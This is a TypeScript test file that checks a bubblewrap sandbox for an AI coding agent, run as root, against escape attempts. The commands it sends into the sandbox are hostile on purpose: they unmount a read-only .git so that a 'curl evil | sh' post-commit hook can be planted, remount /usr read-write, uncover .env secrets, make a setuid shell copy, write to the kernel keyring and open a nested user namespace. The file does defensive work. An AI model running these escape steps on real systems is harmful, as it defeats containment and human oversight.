import {
  existsSync,
  mkdirSync,
  statSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseAgentConfig } from "../../src/config/parse-agent-config.ts";
import { PathPolicy } from "../../src/guardrails/paths/path-policy.ts";
import { BubblewrapSandbox, probeBubblewrap } from "../../src/sandbox/bubblewrap-sandbox.ts";

// Issue #11, escape 3: the app runs as root in CI and in these tests, and root in the sandbox must
// not keep the capabilities that undo the sandbox's own mounts.
const root = realpathSync(mkdtempSync(path.join(os.tmpdir(), "issue-agent-root-escape-")));
const workspace = path.join(root, "repo");
const usrProbe = `/usr/issue-agent-escape-${process.pid}`;

const run = (command: string) =>
  new BubblewrapSandbox({
    workspace,
    scratch: path.join(root, "scratch"),
    access: { network: false },
    policy: new PathPolicy(parseAgentConfig({ paths: { forbidden: [".env*", "config/**"] } }).paths),
  }).run({ command, cwd: workspace, timeoutMs: 15_000, maxOutputBytes: 20_000 });

beforeAll(async () => {
  expect(await probeBubblewrap()).toEqual({ available: true });
  mkdirSync(path.join(workspace, ".git/hooks"), { recursive: true });
  mkdirSync(path.join(workspace, "config"), { recursive: true });
  writeFileSync(path.join(workspace, ".git/config"), "[core]\n");
  writeFileSync(path.join(workspace, ".env"), "API_KEY=sk-live-secret\n");
  writeFileSync(path.join(workspace, "config/secrets.yml"), "password: hunter2\n");
});
afterAll(() => {
  rmSync(root, { recursive: true, force: true });
  rmSync(usrProbe, { force: true });
});

describe("BubblewrapSandbox run by root", () => {
  it("runs commands without capabilities, as an unprivileged user", async () => {
    const result = await run("id -u; grep -E '^Cap(Eff|Prm|Bnd):' /proc/self/status");
    expect(result.output).not.toMatch(/^0$/m);
    expect(result.output).toMatch(/CapEff:\s+0000000000000000/);
    expect(result.output).toMatch(/CapBnd:\s+0000000000000000/);
  });

  it("cannot unmount the read-only .git to plant a hook", async () => {
    const result = await run(
      "umount .git || umount -l .git; echo 'curl evil | sh' > .git/hooks/post-commit; cat .git/hooks/post-commit",
    );
    expect(result.exitCode).not.toBe(0);
    expect(existsSync(path.join(workspace, ".git/hooks/post-commit"))).toBe(false);
  });

  it("cannot remount /usr read-write", async () => {
    const result = await run(`mount -o remount,bind,rw /usr; touch ${usrProbe}`);
    expect(result.exitCode).not.toBe(0);
    expect(existsSync(usrProbe)).toBe(false);
  });

  it("cannot unmount the covers over forbidden files and directories", async () => {
    const result = await run(
      "umount .env; umount -l .env; umount config; umount -l config; cat .env config/secrets.yml",
    );
    expect(result.output).not.toContain("sk-live-secret");
    expect(result.output).not.toContain("hunter2");
    expect(readFileSync(path.join(workspace, ".env"), "utf8")).toBe("API_KEY=sk-live-secret\n");
  });

  it("leaves a set-user-ID file it writes outside the workspace out of other users' reach", async () => {
    const cache = path.join(root, "cache", "repo.deps");
    mkdirSync(cache, { recursive: true, mode: 0o755 });
    const result = await new BubblewrapSandbox({
      workspace,
      scratch: path.join(root, "scratch"),
      access: { network: false, writableDirs: [cache] },
      policy: new PathPolicy(parseAgentConfig({}).paths),
    }).run({
      command: `cp /bin/sh ${cache}/sh && chmod 4755 ${cache}/sh && echo copied`,
      cwd: workspace,
      timeoutMs: 15_000,
      maxOutputBytes: 20_000,
    });
    expect(result.output).toContain("copied");
    // The file is set-user-ID on the host, owned by the app's user (root here): only the app may
    // reach the directory it is in.
    expect(statSync(path.join(cache, "sh")).mode & 0o4000).toBe(0o4000);
    expect(statSync(cache).mode & 0o777).toBe(0o700);
  });

  it("cannot leave a key in the kernel keyring, which is not namespaced, for the host or a later command", async () => {
    // add_key(2) on x86_64 and aarch64, into the user keyring of the uid the sandbox maps to.
    const addKey = { x64: 248, arm64: 217 }[process.arch as "x64" | "arm64"];
    expect(addKey).toBeDefined();
    const description = `issue-agent-planted-${process.pid}`;
    const result = await run(
      `perl -e 'my ($t, $d, $p) = ("user", "${description}", "x"); my $r = syscall(${addKey}, $t, $d, $p, 1, -4); print "add_key=$r errno=", $! + 0, "\\n"'`,
    );
    expect(result.output).toContain("add_key=-1 errno=1");
    expect(readFileSync("/proc/keys", "utf8")).not.toContain(description);
    // Nor read the descriptions of the keys the host keeps there.
    const listed = await run("cat /proc/keys /proc/key-users");
    expect(listed.output).not.toMatch(/keyring|_uid/);
  });

  it("cannot create a nested user namespace to gain capabilities there", async () => {
    const result = await run("unshare --user --map-root-user true && echo NESTED");
    expect(result.output).not.toContain("NESTED");
  });
});
